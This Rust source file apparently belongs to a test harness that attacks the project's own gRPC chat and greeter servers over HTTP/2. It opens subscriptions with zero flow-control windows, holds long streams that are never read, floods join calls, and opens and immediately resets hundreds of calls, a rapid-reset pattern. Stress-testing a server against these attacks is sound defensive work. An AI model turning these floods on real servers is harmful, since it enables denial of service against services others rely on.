//! Attacks by HTTP/2: clients that answer pings and never open a window, floods of calls and of resets.

use std::future::pending;
use std::net::Ipv4Addr;
use std::time::Duration;

use bytes::Bytes;
use fastrand::Rng;
use h2::client::{ResponseFuture, SendRequest};
use http::Request;
use prost::Message;
use proto::chat::v1 as pb;
use proto::helloworld::HelloRequest;
use tokio::task::JoinSet;
use tokio::time::timeout;

use super::Target;
use crate::relay::connect;

/// Time limit of a step of a connection or call.
const STEP_TIMEOUT: Duration = Duration::from_millis(500);
/// Bursts of subscriptions, and subscriptions in each: the limit of a user.
const BURSTS: usize = 2;
const SUBSCRIPTIONS: usize = 16;
/// The smallest windows: nothing, and the first frame.
const WINDOWS: [u32; BURSTS] = [0, 30];
/// Connections with unread streams, and streams in each.
const UNREAD_CONNECTIONS: usize = 4;
const UNREAD_STREAMS: usize = 100;
/// Joins of one flood.
const JOINS: usize = 300;
/// Calls that one connection opens and resets, unless the server closes it.
const RESETS: usize = 400;

/// Bursts of subscriptions without a window.
pub(super) async fn zero_window(target: &Target, source: Ipv4Addr, tasks: &mut JoinSet<()>) {
    let message = pb::SubscribeRequest::default();
    for window in WINDOWS {
        let Some(mut sender) = handshake(target, source, window, tasks).await else { return };
        let mut calls = Vec::new();
        for _ in 0..SUBSCRIPTIONS {
            calls.extend(call(&mut sender, target, "/chat.v1.ChatService/Subscribe", &message, &[]).await);
        }
        hold(sender, calls, tasks);
    }
}

/// Long streams that nobody reads.
pub(super) async fn unread(target: &Target, source: Ipv4Addr, tasks: &mut JoinSet<()>) {
    let message = HelloRequest { name: "Mallory".to_owned() };
    let endless = [("x-greeter-count", "100000"), ("x-greeter-interval-ms", "0")];
    for _ in 0..UNREAD_CONNECTIONS {
        let Some(mut sender) = handshake(target, source, 0, tasks).await else { return };
        let mut calls = Vec::new();
        for _ in 0..UNREAD_STREAMS {
            let method = "/helloworld.Greeter/SayHelloStreamReply";
            let Some(answer) = call(&mut sender, target, method, &message, &endless).await else { break };
            calls.push(answer);
        }
        hold(sender, calls, tasks);
    }
}

/// A flood of joins over one connection.
pub(super) async fn joins(target: &Target, source: Ipv4Addr, rng: &mut Rng, tasks: &mut JoinSet<()>) {
    let Some(mut sender) = handshake(target, source, 65_535, tasks).await else { return };
    let mut calls = Vec::new();
    for _ in 0..JOINS {
        let message = pb::JoinRequest {
            name: format!("Mallory {}", rng.u64(..)),
            return_token: true,
            ..Default::default()
        };
        let Some(answer) = call(&mut sender, target, "/chat.v1.ChatService/Join", &message, &[]).await else {
            break;
        };
        calls.push(answer);
    }
    hold(sender, calls, tasks);
}

/// Calls that are reset at once.
pub(super) async fn resets(target: &Target, source: Ipv4Addr, tasks: &mut JoinSet<()>) {
    let Some(mut sender) = handshake(target, source, 65_535, tasks).await else { return };
    let message = pb::ListRoomsRequest {};
    for _ in 0..RESETS {
        // Dropping the answer resets the call.
        let answer = call(&mut sender, target, "/chat.v1.ChatService/ListRooms", &message, &[]).await;
        if answer.is_none() {
            return;
        }
    }
    hold(sender, Vec::new(), tasks);
}

async fn handshake(
    target: &Target,
    source: Ipv4Addr,
    window: u32,
    tasks: &mut JoinSet<()>,
) -> Option<SendRequest<Bytes>> {
    let stream = timeout(STEP_TIMEOUT, connect(source, target.server)).await.ok()?.ok()?;
    let mut builder = h2::client::Builder::new();
    builder.initial_window_size(window);
    let (sender, connection) = timeout(STEP_TIMEOUT, builder.handshake(stream)).await.ok()?.ok()?;
    tasks.spawn(async {
        // It answers pings until the server closes it.
        connection.await.ok();
    });
    Some(sender)
}

async fn call(
    sender: &mut SendRequest<Bytes>,
    target: &Target,
    method: &str,
    message: &impl Message,
    headers: &[(&'static str, &'static str)],
) -> Option<ResponseFuture> {
    let mut request = Request::post(format!("http://{}{method}", target.server))
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .header("authorization", &target.authorization);
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    let mut ready = timeout(STEP_TIMEOUT, sender.clone().ready()).await.ok()?.ok()?;
    let (answer, mut body) = ready.send_request(request.body(()).ok()?, false).ok()?;
    body.send_data(grpc_wire::message::encode(0, &message.encode_to_vec()), true).ok()?;
    *sender = ready;
    Some(answer)
}

/// Keeps the connection and its calls open, and reads nothing.
fn hold(sender: SendRequest<Bytes>, calls: Vec<ResponseFuture>, tasks: &mut JoinSet<()>) {
    tasks.spawn(async move {
        let _held = (sender, calls);
        pending::<()>().await;
    });
}
